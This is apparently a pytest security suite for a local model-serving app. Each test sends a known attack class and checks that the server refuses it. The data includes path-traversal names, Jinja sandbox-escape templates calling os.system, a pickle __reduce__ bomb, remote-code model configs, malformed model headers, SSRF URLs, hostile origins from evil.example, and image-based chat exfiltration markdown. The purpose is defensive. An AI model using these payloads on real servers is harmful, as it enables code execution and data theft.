"""One test for each class of hole that local model servers had (docs/serve.md names them)."""

import asyncio
import json
import pickle
import shutil
import socket
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.exceptions import HTTPException

from kaiwa.serve.app import make_app, make_services
from kaiwa.serve.http.security import Guard, _limit_body, digest
from kaiwa.serve.services import ServerSettings
from tests.running_server import Running

MESSAGES = [{"role": "user", "content": "the cat"}]
KEY, ADMIN = "api-key-0123456789", "admin-key-0123456789"


def post(server: Running, path: str, body: Any) -> httpx.Response:
    return httpx.post(f"{server.url}{path}", json=body, timeout=60)


def copied(server: Running, name: str, change: Callable[[Path], None]) -> str:
    """A model of its own to do evil with. -> its name"""
    folder = server.runs / "evil" / name
    shutil.copytree(server.runs / "toy" / "ppo", folder)
    change(folder)
    return f"evil/{name}"


def still_well(server: Running) -> None:
    assert post(server, "/v1/chat/completions", {"model": "toy/ppo", "messages": MESSAGES, "max_tokens": 1}).is_success
    assert server.engine()["restarts"] == 0


NAMES = [
    "../secret",
    "..%2fsecret",
    "%2e%2e/secret",
    "toy/../../secret",
    "/etc/passwd",
    "..\\secret",
    "file:///etc",
    "a\x00b",
]


@pytest.mark.parametrize("name", NAMES)
def test_names_are_no_paths(server: Running, name: str) -> None:
    """text-generation-webui CVE-2026-35050, CVE-2026-35487: a name joined to a path."""
    (server.runs.parent / "secret").mkdir(exist_ok=True)
    shutil.copytree(server.runs / "toy" / "ppo", server.runs.parent / "secret", dirs_exist_ok=True)
    quoted = httpx.URL(server.url).copy_with(raw_path=b"/v1/models/" + name.replace("\x00", "%00").encode())
    assert httpx.get(quoted).status_code in (400, 404)
    assert httpx.get(f"{server.url}/api/jobs/{name.replace(chr(0), '%00')}").status_code in (400, 404)
    for path in ("/v1/chat/completions", "/v1/completions", "/v1/embeddings", "/tokenize", "/api/engine/load"):
        body = {"model": name, "messages": MESSAGES, "prompt": "x", "input": "x"}
        if path == "/tokenize":
            del body["messages"]
        assert post(server, path, body).status_code == 404
    assert post(server, "/api/jobs", {"recipe": name}).status_code == 404


def test_a_real_path_is_no_name(server: Running) -> None:
    """Only what the catalog lists has a name, wherever it lies."""
    body = {"model": str(server.runs / "toy" / "ppo"), "messages": MESSAGES}
    assert post(server, "/v1/chat/completions", body).status_code == 404


def test_no_code_comes_with_a_model(server: Running, tmp_path: Path) -> None:
    """vLLM CVE-2026-22807 (auto_map), SGLang CVE-2026-7669, textgen CVE-2025-12488 (trust_remote_code by request)."""
    mark = tmp_path / "executed"

    def change(folder: Path) -> None:
        config = json.loads((folder / "config.json").read_text())
        config |= {"auto_map": {"AutoModelForCausalLM": "evil.Model", "AutoConfig": "evil.Config"}}
        (folder / "config.json").write_text(json.dumps(config))
        (folder / "evil.py").write_text(f"open({str(mark)!r}, 'w')")

    name = copied(server, "code", change)
    flags = {"trust_remote_code": True, "loader": "evil", "path": str(tmp_path)}
    assert post(server, "/api/engine/load", {"model": name, **flags}).status_code == 202
    found = post(server, "/v1/chat/completions", {"model": name, "messages": MESSAGES, "max_tokens": 1, **flags})
    assert found.status_code == 200
    assert "trust_remote_code" in found.headers["x-kaiwa-ignored"]
    assert not mark.exists()


class Bomb:
    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (self.mark, "w")


def test_nothing_is_unpickled(server: Running, tmp_path: Path) -> None:
    """vLLM CVE-2025-62164 (torch.load of prompt embeds); weights only as safetensors."""
    import base64

    mark = tmp_path / "unpickled"
    bomb = pickle.dumps(Bomb(str(mark)))

    def change(folder: Path) -> None:
        (folder / "model.safetensors").unlink()
        for file in ("pytorch_model.bin", "model.pt", "consolidated.00.pth"):
            (folder / file).write_bytes(bomb)

    name = copied(server, "pickle", change)
    found = post(server, "/v1/chat/completions", {"model": name, "messages": MESSAGES})
    assert found.status_code in (400, 404, 500)
    assert found.json()["error"]["code"] in ("model_failed", "model_not_found")
    embeds = {"prompt_embeds": base64.b64encode(bomb).decode()}
    post(server, "/v1/completions", {"model": "toy/base", "prompt": "x", "max_tokens": 1, **embeds})
    assert not mark.exists()
    still_well(server)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.system('x') }}",
        "{% for i in range(99999999) %}x{% endfor %}",
        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
        "{{ 'x' * 10**9 }}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{{ messages[0].__init__ }}{% include '/etc/passwd' %}",
    ],
)
def test_templates_are_sandboxed(server: Running, template: str) -> None:
    """SGLang CVE-2026-5760, llama-cpp-python CVE-2024-34359: a chat template is code of a stranger."""

    def change(folder: Path) -> None:
        settings = json.loads((folder / "tokenizer_config.json").read_text())
        for special in folder.glob("chat_template*"):
            special.unlink()
        (folder / "tokenizer_config.json").write_text(json.dumps(settings | {"chat_template": template}))

    name = copied(server, f"template{abs(hash(template))}", change)
    found = post(server, "/v1/chat/completions", {"model": name, "messages": MESSAGES, "max_tokens": 1})
    assert found.status_code == 400, found.text
    assert "template" in found.json()["error"]["message"]
    still_well(server)


def test_a_broken_model_file_harms_nobody(server: Running) -> None:
    """ollama CVE-2026-7482: lengths in a GGUF file that point outside it; and a safetensors header that lies."""
    models = server.services.settings.home / "models"
    models.mkdir(exist_ok=True)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    for name, data in (
        ("huge", head + struct.pack("<Q", 2**62) + b"x"),
        ("counts", b"GGUF" + struct.pack("<IQQ", 3, 2**60, 2**60)),
        ("short", head[:9]),
    ):
        (models / f"{name}.gguf").write_bytes(data)
        found = post(server, "/v1/chat/completions", {"model": name, "messages": MESSAGES})
        assert found.status_code in (400, 404, 500), found.text
        assert found.json()["error"]["message"]
        (models / f"{name}.gguf").unlink()

    def lie(folder: Path) -> None:
        whole = (folder / "model.safetensors").read_bytes()
        (folder / "model.safetensors").write_bytes(struct.pack("<Q", 2**40) + whole[8:])

    assert not post(
        server, "/v1/chat/completions", {"model": copied(server, "lie", lie), "messages": MESSAGES}
    ).is_success
    still_well(server)


def test_nothing_is_fetched(server: Running) -> None:
    """gradio CVE-2026-28416, ollama CVE-2026-5530, Open WebUI CVE-2026-45400: requests in the server's name."""
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(0.3)
        url = f"http://127.0.0.1:{trap.getsockname()[1]}/x"
        image = [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": url}}]}]
        schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"$ref": url}}}
        for path, body in (
            ("/v1/chat/completions", {"model": "toy/ppo", "messages": image}),
            ("/v1/chat/completions", {"model": "toy/ppo", "messages": MESSAGES, "response_format": schema}),
            ("/v1/chat/completions", {"model": url, "messages": MESSAGES}),
            ("/api/engine/load", {"model": url}),
            ("/v1/responses", {"model": "toy/ppo", "input": [{"role": "user", "content": [{"type": "input_image"}]}]}),
        ):
            assert post(server, path, body).status_code in (400, 404)
        with pytest.raises(TimeoutError):
            trap.accept()


INTEGERS = (
    "n",
    "max_tokens",
    "max_completion_tokens",
    "top_k",
    "top_logprobs",
    "seed",
    "best_of",
    "logprobs",
    "n_discard",
)


@pytest.mark.parametrize("value", [-1, -(2**31), 2**31, 2**63, 10**40])
def test_integers_are_bounded(server: Running, value: int) -> None:
    """llama.cpp CVE-2026-21869: a negative count became an index."""
    for field in INTEGERS:
        for path, prompt in (("/v1/chat/completions", {"messages": MESSAGES}), ("/v1/completions", {"prompt": "x"})):
            body = {"model": "toy/ppo", **prompt, field: value}
            if field not in ("max_tokens", "max_completion_tokens"):
                body["max_tokens"] = 1
            assert post(server, path, body).status_code in (200, 400), (field, value)


def test_other_sites_change_nothing_anywhere(server: Running) -> None:
    """gradio CVE-2024-47084, CVE-2024-47165, CVE-2025-5320: every route that changes something."""
    paths = make_app(server.services).openapi()["paths"]
    found = [(method, path) for path, each in paths.items() for method in each if method != "get"]
    assert len(found) > 8
    for method, path in found:
        for origin in ("null", "http://evil.example", f"https://127.0.0.1:{server.port}"):
            response = httpx.request(method, f"{server.url}{path}", headers={"Origin": origin}, json={})
            assert response.status_code == 403, (method, path, origin)
            assert not [name for name in response.headers if name.startswith("access-control-")]


def asked(requests: list[tuple[str, str, dict[str, str]]]) -> list[httpx.Response]:
    """Answers of an application with keys, without its engine."""
    settings = ServerSettings(
        runs=Path("/nonexistent"), home=Path("/nonexistent"), api_key=KEY, admin_key=ADMIN, open=True, names=("box",)
    )

    async def run() -> list[httpx.Response]:
        transport = httpx.ASGITransport(make_app(make_services(settings)))
        async with httpx.AsyncClient(transport=transport, base_url="http://box:7860") as client:
            answers = []
            for method, path, headers in requests:
                client.cookies.clear()
                url = client.base_url.copy_with(raw_path=path.encode())
                answers.append(await client.request(method, url, headers=headers))
            return answers

    return asyncio.run(run())


def bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def test_keys() -> None:
    """ollama's open hosts; h2oGPT CVE-2026-65700 (a key used as a path)."""
    wrong = ["", "Bearer", f"Basic {KEY}", f"Bearer {KEY}x", f"Bearer {KEY[:-1]}", "Bearer ../../etc/passwd"]
    answers = asked([("GET", "/v1/models", {"Authorization": value}) for value in wrong])
    assert {answer.status_code for answer in answers} == {401}
    assert answers[0].headers["www-authenticate"] == "Bearer"
    paths = ["/v1/models", "/metrics", "/api/jobs", "/api/engine", "/openapi.json", "/tokenizer_info", "/chat", "/no"]
    assert {answer.status_code for answer in asked([("GET", path, {}) for path in paths])} == {401}
    assert [a.status_code for a in asked([("GET", "/health", {}), ("GET", "/v1/models", bearer(KEY))])] == [200, 200]


def test_what_needs_the_admin_key() -> None:
    admin = [
        ("POST", "/api/engine/load"),
        ("POST", "/api/jobs"),
        ("POST", "/api/jobs/x/stop"),
        ("POST", "/build/start"),
    ]
    admin += [
        ("POST", "/v1/files"),
        ("DELETE", "/v1/files/x"),
        ("POST", "/v1/fine_tuning/jobs"),
        ("DELETE", "/v1/models/x"),
    ]
    for answer in asked([(method, path, bearer(KEY)) for method, path in admin]):
        assert (answer.status_code, answer.json()["error"]["code"]) == (403, "admin_key_needed")
    assert all(a.status_code not in (401, 403) for a in asked([(m, path, bearer(ADMIN)) for m, path in admin]))


def test_the_pages_cookie() -> None:
    """A visit with the key is remembered without it, and leads nowhere else (textgen #6758, an open redirect)."""
    first, evil, foreign = asked(
        [("GET", f"/chat?key={KEY}&x=1", {}), ("GET", f"//evil.example/?key={KEY}", {}), ("GET", "/chat?key=no", {})]
    )
    assert (first.status_code, first.headers["location"]) == (303, "/chat?x=1")
    cookie = first.headers["set-cookie"]
    assert KEY not in cookie
    assert "HttpOnly" in cookie
    assert "SameSite=Strict" in cookie
    assert httpx.URL("http://box/").join(evil.headers["location"]).host == "box"
    assert foreign.status_code == 401
    kept = {"Cookie": cookie.partition(";")[0]}
    good, other, host = asked(
        [
            ("GET", "/v1/models", kept),
            ("GET", "/v1/models", {"Cookie": f"kaiwa_key_7860={KEY}"}),
            ("GET", "/v1/models", kept | {"Host": "evil.example:7860"}),
        ]
    )
    assert (good.status_code, other.status_code, host.status_code) == (200, 401, 403)
    assert digest(KEY) != digest(ADMIN)
    (cross,) = asked([("POST", "/v1/chat/completions", kept | {"Origin": "http://evil.example"})])
    assert cross.status_code == 403


@pytest.mark.parametrize(
    ("host", "good"),
    [
        ("box:7860", True),
        ("192.168.1.9:7860", True),
        ("[fe80::1]:7860", True),
        ("box", False),
        ("box.evil.example:7860", False),
    ],
)
def test_hosts_of_a_server_in_the_network(host: str, good: bool) -> None:
    """DNS rebinding (ollama CVE-2024-28224) needs a name: addresses and our own names are safe."""
    (answer,) = asked([("GET", "/v1/models", bearer(KEY) | {"Host": host})])
    assert answer.status_code == (200 if good else 403)


def test_every_response_says_not_to_guess_its_type(server: Running) -> None:
    for path in ("/health", "/no", "/v1/models"):
        assert httpx.get(f"{server.url}{path}").headers["x-content-type-options"] == "nosniff"


def test_what_a_model_writes_cannot_run_or_call_home() -> None:
    """Pages: strict CSP, no remote images (they would carry the chat away), no scripts."""
    from kaiwa.web.markdown import render
    from kaiwa.web.view import POLICY

    assert "unsafe" not in POLICY
    assert "default-src 'none'" in POLICY
    told = "![x](http://evil.example/?chat) <img src=http://evil.example> <script>1</script> [a](javascript:alert(1))"
    html = render(told)
    assert "<img" not in html
    assert "<script" not in html
    assert 'href="javascript' not in html


def test_a_body_without_a_length_is_bounded(server: Running) -> None:
    def chunks() -> Any:
        for _ in range(80):
            yield b"x" * (1 << 16)

    try:
        response = httpx.post(f"{server.url}/v1/completions", content=chunks(), timeout=30)
    except (httpx.WriteError, httpx.RemoteProtocolError):
        pass  # the server hung up while we still sent
    else:
        assert response.status_code == 413
    still_well(server)


def test_a_body_that_does_not_come_is_given_up() -> None:
    """Slow requests (slowloris) hold nothing for ever."""

    async def never() -> dict[str, Any]:
        await asyncio.sleep(60)
        return {}

    async def late() -> None:
        await _limit_body(never, 10, 0.05)()

    with pytest.raises(HTTPException) as found:
        asyncio.run(late())
    assert found.value.status_code == 408


def test_half_closed_and_silent_clients(server: Running) -> None:
    """Connections that say nothing, or half a request, or close one side: the others are answered."""
    body = json.dumps({"model": "toy/ppo", "messages": MESSAGES, "max_tokens": 3}).encode()
    head = f"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\nContent-Type: application/json\r\n"
    whole = head.encode() + b"Content-Length: %d\r\n\r\n" % len(body) + body
    kept = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(20)]
    for i, connection in enumerate(kept):
        connection.sendall([b"", b"GET / HT", whole[:120], whole][i % 4])
        if i % 4 == 3:
            connection.shutdown(socket.SHUT_WR)
    still_well(server)
    for connection in kept:
        connection.close()
    server.wait(lambda: server.engine()["requests"] == 0)


def test_a_guard_without_keys_asks_for_none() -> None:
    sent: list[Any] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        sent.append("reached")

    async def nothing(*_: Any) -> Any:
        return {}

    scope = {"type": "http", "method": "GET", "path": "/v1/models", "headers": [(b"host", b"localhost:1")]}
    asyncio.run(Guard(app, port=1)(scope, nothing, nothing))
    assert sent == ["reached"]
